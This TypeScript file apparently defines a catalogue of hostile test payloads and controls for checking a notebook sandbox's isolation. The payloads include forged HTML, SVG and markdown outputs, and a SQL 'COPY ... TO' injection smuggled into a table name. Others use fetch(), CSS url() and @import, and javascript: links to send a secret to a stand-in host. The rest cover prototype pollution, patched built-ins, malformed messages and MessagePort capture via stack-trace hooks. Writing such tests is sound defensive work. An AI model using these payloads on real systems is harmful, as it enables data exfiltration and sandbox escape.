import type { Payload } from '../payload.ts';
import { answering, forged, forging, inPage, markup, markupControl, message, none } from './forging.ts';
import { byHtml, byScript, soon } from './sameText.ts';

const plain = (value: string) => `{ kind: 'plain', value: ${value} }`;
const record = (entries: string) => `{ kind: 'record', entries: [${entries}] }`;
const chart = (options: string, marks: string, data = '[1, 2]') =>
	`{ kind: 'chart', chart: { datasets: [{ kind: 'values', values: ${data} }], root: { kind: 'call', name: 'plot', args: [${record(`${options}['marks', { kind: 'list', items: [${marks}] }]`)}] } } }`;
const mark = (name: string, entries: string) =>
	`{ kind: 'call', name: '${name}', args: [{ kind: 'dataset', index: 0 }, ${record(entries)}] }`;

const table = (changed: string) =>
	`{ kind: 'table', rows: 2, table: Object.assign({ names: ['x'], types: [{ type: 'utf8' }], batches: [{ length: 2, columns: [{ length: 2, offsets: Int32Array.of(0, 1, 2), values: Uint8Array.of(97, 98) }] }] }, ${changed}) }`;

const outputs: readonly Payload[] = [
	forged('forged-html', 'forged output', (at) => `{ kind: 'html', html: \`${markup(at)}\` }`, markupControl),
	forged(
		'forged-svg',
		'forged output',
		(at) => `{ kind: 'svg', svg: \`<svg xmlns="http://www.w3.org/2000/svg">${markup(at)}</svg>\` }`,
		markupControl
	),
	forged(
		'forged-markdown',
		'forged output',
		(at) => `{ kind: 'markdown', markdown: \`![x](${at.http}?\${secret})\n\n${markup(at)}\` }`,
		markupControl
	),
	forged(
		'forged-preview',
		'forged output',
		(at) =>
			`...[\`${markup(at)}\`].flatMap((text) => [{ kind: 'primitive', type: 'string', text }, { kind: 'date', text }, { kind: 'function', name: text }, { kind: 'error', name: text, message: text }, { kind: 'opaque', text }, { kind: 'list', type: text, length: 1, items: [], more: 1 }, { kind: 'record', type: text, entries: [{ key: text, value: { kind: 'opaque', text } }, { key: '__proto__', value: { kind: 'opaque', text } }], more: 0 }].map((preview) => ({ kind: 'value', preview })))`,
		markupControl
	),
	forged(
		'forged-relation',
		'forged output',
		(at) =>
			`{ kind: 'relation', name: \`udtraek; COPY (SELECT 1) TO '${at.http}?\${secret}'\`, fields: [{ name: 'x', type: 'VARCHAR' }], rows: 3, stored: { as: 'table', because: '' } }`,
		inPage
	),
	forged(
		'forged-kinds',
		'forged output',
		(at) =>
			`{ kind: 'script', code: "fetch('${at.http}?" + secret + "')" }, { kind: 'options', options: [{ value: secret, label: secret }] }, { kind: 'statement', done: '${at.http}' }, { kind: 'plan', plan: { toString: 1 } }, { kind: 'left', outputs: -1, logs: 1e400 }, null, undefined, 7, [], new Map([['kind', 'html']])`,
		inPage
	),
	forged(
		'forged-prototypes',
		'prototype pollution',
		(at) =>
			`...['{"kind":"html","html":"","__proto__":{"src":"${at.http}"}}', '{"kind":"value","preview":{"kind":"record","type":"x","entries":[],"more":0,"constructor":{"prototype":{"src":"${at.http}"}}}}'].map((text) => JSON.parse(text))`,
		inPage
	),
	forged(
		'forged-links',
		'forged chart',
		({ http }) =>
			chart(
				'',
				mark(
					'dot',
					`['x', ${plain(`'x'`)}], ['href', { kind: 'column', values: ['${http}x.html?' + secret, 'javascript:fetch("${http}?' + secret + '")'] }], ['target', ${plain(`'_blank'`)}]`
				)
			),
		byHtml(
			({ http }) =>
				`<svg width="9" height="9"><a href="${http}"><circle r="9"/></a></svg><script>document.querySelector('a').dispatchEvent(new MouseEvent('click', { bubbles: true }))</script>`
		)
	),
	forged(
		'forged-pictures',
		'forged chart',
		({ http }) =>
			chart(
				'',
				mark(
					'image',
					`['x', { kind: 'column', values: [1, 2] }], ['src', { kind: 'column', values: ['${http}x.svg?' + secret, 'blob:${http}?' + secret] }]`
				)
			),
		byHtml(({ http }) => `<svg><image href="${http}x.svg"></image></svg>`)
	),
	forged(
		'forged-styles',
		'forged chart',
		({ http }) =>
			chart(
				`['style', ${plain(`"background: url('${http}?" + secret + "')"`)}], ['className', ${plain(`"x{} @import '${http}?" + secret + "';"`)}], `,
				mark(
					'dot',
					`['x', { kind: 'column', values: [1, 2] }], ['fill', ${plain(`"url(${http}x.svg?" + secret + "#a)"`)}], ['mixBlendMode', ${plain(`"x; background: url(${http}?" + secret + ")"`)}], ['imageFilter', ${plain(`"url(${http}x.svg?" + secret + "#a)"`)}]`
				)
			),
		byHtml(({ http }) => `<div style="background: url('${http}')">x</div>`)
	),
	forged(
		'forged-options',
		'forged chart',
		({ http }) =>
			chart(
				`['document', ${record(`['createElement', ${plain(`'${http}'`)}]`)}], ['__proto__', ${record(`['src', ${plain(`'${http}'`)}]`)}], ['title', ${plain(`"<img src=${http}x.svg?" + secret + ">"`)}], ['caption', ${plain(`"<img src=${http}x.svg?" + secret + ">"`)}], `,
				mark(
					'text',
					`['text', { kind: 'column', values: ["<img src=${http}x.svg?" + secret + ">", 'x'] }], ['render', ${plain(`"fetch('${http}')"`)}], ['initializer', ${plain(`"fetch('${http}')"`)}], ['tip', ${plain('true')}], ['constructor', ${plain('1')}]`
				)
			),
		byHtml(({ http }) => `<img src=${http}x.svg>`)
	),
	forged(
		'forged-moves',
		'forged picture of moves',
		(at) =>
			`...[{ title: \`${markup(at)}\`, source: \`${markup(at)}\` }, { picks: 'udtraek' }, { table: 'udtraek', center: '$udtraek' }, { type: 'constructor' }, { top: 1e9 }].flatMap((words) => [{ '0101': \`${markup(at)}\` }, { constructor: \`${markup(at)}\` }].map((names) => ({ kind: 'drawn', chart: { spec: { type: 'flow-map', ...words }, query: "COPY udtraek TO '${at.http}'", table: { rows: 2, columns: { from: ['0101', \`${markup(at)}\`], to: ['0751', 'constructor'], value: [5, 1e14], n: [5, 1] }, n: 6, names, boundaries: [{ key: '0101', geometry: '{"type":"Polygon","coordinates":[[["url(${at.http})",1e400],[1,2],[0,0]]]}' }, { key: \`${markup(at)}\`, geometry: '[' }] } } })))`,
		markupControl
	),
	forged(
		'forged-data',
		'forged chart',
		({ http }) =>
			chart(
				'',
				mark('geo', ``),
				`[{ type: 'Feature', properties: { src: '${http}' }, geometry: { type: 'Polygon', coordinates: [[[0, 0], [1, "url(${http}?" + secret + ")"], [NaN, 1e400], [0, 0]]] } }, { ['constructor']: { prototype: { src: '${http}' } } }]`
			),
		inPage
	),
	forged(
		'forged-column-names',
		'forged table',
		(at) => table(`{ names: [\`${markup(at)}\`] }`),
		markupControl
	),
	forged(
		'forged-offsets',
		'Arrow buffers',
		() =>
			`${[`{ batches: [{ length: 2, columns: [{ length: 2, offsets: Int32Array.of(0, 1, 2_000_000_000), values: Uint8Array.of(97, 98) }] }] }`, `{ batches: [{ length: 400_000_000, columns: [{ length: 400_000_000, offsets: Int32Array.of(0), values: new Uint8Array() }] }] }`, `{ types: [{ type: 'list', item: { type: 'list', item: { type: 'utf8' } } }] }`, `{ types: [{ type: 'decimal', scale: 38, precision: 1 }], batches: [{ length: 2, columns: [{ length: 2, values: Uint32Array.of(1, 2, 3, 4, 5, 6, 7, 8) }] }] }`, `{ batches: [{ length: 2, columns: [{ length: 2, offsets: Int32Array.of(0, 1, 2), values: Uint8Array.of(255, 254) }] }] }`].map(table).join(', ')}`,
		inPage
	)
];

const talk: readonly Payload[] = [
	message('forged-log', 'forged log line', {
		script: (at) =>
			`${forging}\nreporter.log(() => ({ level: 'error', text: \`${markup(at)}\`, line: 1 }));\nreporter.log(() => ({ level: '${at.http}', text: { toString: 1 }, line: NaN }))`,
		control: markupControl
	}),
	message('thrown-markup', 'forged error', {
		script: (at) =>
			`throw Object.assign(new Error(\`${markup(at)}\`), { name: \`${markup(at)}\`, stack: 'at kladde:///x?' + '${at.http}' + ':1:1', cause: '${at.http}' })`,
		control: markupControl
	}),
	message(
		'foreign-answers',
		'another run’s answers',
		{
			script: ({ http }) => `${answering}
for (let id = 0; id < 200; id++) for (const verb of ['done', 'ready', 'held', 'scalar', 'table'])
	send({ id, verb, result: { ok: true, value: verb === 'held' ? [{ name: secret, cell: '${http}', type: '<img src=${http}x.svg>', bytes: 1, exact: true, at: 0 }] : '${http}?' + secret } })`,
			control: inPage
		},
		{ alone: true }
	),
	message(
		'wrong-shapes',
		'messages of no shape',
		{
			script: ({ http }) => `${answering}
const ring = {}; ring.ring = ring; const holes = []; holes.length = 4_000_000_000;
let deep = {}; for (let n = 0; n < 20_000; n++) deep = { deep };
for (const sent of [null, 7, '${http}', [], {}, { id: 1 }, { id: '1', verb: 'done' }, { id: NaN, verb: 'evaluated' }, { id: 1, verb: 'eval', code: "fetch('${http}')" }, { id: 1, verb: '__proto__' }, { id: 2 ** 60, verb: 'shown' }, ring, { id: 1, verb: 'shown', shown: ring }, { id: 1, verb: 'held', result: deep }, { id: 1, verb: 'shown', shown: { outputs: holes, logs: holes } }, { id: 1, verb: 'shown', shown: { outputs: { length: 1e9 } } }, { type: 'GET', path: ['constructor'], '@url': '${http}' }, new Error(secret), new Map([['id', 1]]), new Date(NaN), /x/])
	try { send(sent); } catch {}`,
			control: inPage
		},
		{ alone: true }
	),
	message(
		'unasked-requests',
		'requests to the page',
		{
			script: ({ http }) => `${answering}
for (const verb of ['query', 'sql', 'tableOf', 'read', 'evaluate', 'putTable']) send({ id: 1, verb, name: 'udtraek', sql: "COPY udtraek TO '${http}'", run: { code: "fetch('${http}')" } })`,
			control: inPage
		},
		{ alone: true }
	),
	message('port-by-stack', 'MessagePort', {
		script: ({ http }) => `const { then } = Promise.prototype; const ports = [];
Error.prepareStackTrace = (_, sites) => { for (const site of sites) { const self = site.getThis?.(); if (self?.postMessage !== undefined) ports.push(self); } return ''; };
Promise.prototype.then = new Function('then', 'return function (...given) { void new Error().stack; return then.apply(this, given); }')(then);
await ${soon}; Promise.prototype.then = then; delete Error.prepareStackTrace;
for (const port of ports) { const { MessagePort } = port.constructor.prototype.constructor; port.postMessage({ kladde: 'start', script: "fetch('${http}?" + secret + "')" }); port.onmessage = ({ data }) => console.log(data); }
ports.length`,
		control: none('is no address: the port leads to the page alone')
	}),
	message('prototype-then', 'Object.prototype.then', {
		script: ({
			http
		}) => `try { Object.prototype.then = function (done) { delete Object.prototype.then; globalThis.fetch?.('${http}?' + secret, { mode: 'no-cors' }); done({ ok: true, value: '${http}' }); };
display({ a: 1 }); console.log({ a: 1 }); await Object.create(null); await {}; } finally { delete Object.prototype.then; }`,
		control: byScript(
			({ http }) =>
				`Object.prototype.then = function (done) { delete Object.prototype.then; fetch('${http}?' + secret, { mode: 'no-cors' }); done(1); }; await {}`
		)
	}),
	message('polluted-keys', 'prototype pollution', {
		script: ({
			http
		}) => `const keys = ['kind', 'html', 'src', 'href', 'verb', 'line', 'notes', 'left', 'ipc', 'valid', 'children', 'then', 'toJSON', 'get', 'value'];
try { for (const key of keys) if (key !== 'then' && key !== 'get' && key !== 'value') Object.prototype[key] = '${http}?' + secret;
display([{ a: 1 }]); display({ b: 2 }); console.log('x'); } finally { for (const key of keys) delete Object.prototype[key]; }`,
		control: inPage
	}),
	message('patched-language', 'prototype pollution', {
		script: (
			at
		) => `const kept = [[Array.prototype, 'map'], [Array.prototype, 'push'], [Array, 'from'], [Object, 'entries'], [Object, 'fromEntries'], [JSON, 'stringify'], [String.prototype, 'slice'], [Array.prototype, 'slice']].map(([holder, name]) => [holder, name, holder[name]]);
const { apply } = Reflect; const hostile = \`${markup(at)}\`;
try { for (let n = 0; n < kept.length; n++) { const [holder, name, old] = kept[n];
	holder[name] = function (...given) { const made = apply(old, this, given); return typeof made === 'string' && made.length > 2 ? hostile : made; }; }
	display([{ a: 'abc', b: 'def' }]); display('text of it'); console.log('a line'); display(new Map([['key', 'value']])); }
finally { for (let n = 0; n < kept.length; n++) kept[n][0][kept[n][1]] = kept[n][2]; }`,
		control: markupControl
	})
];

export const messages: readonly Payload[] = [...outputs, ...talk];
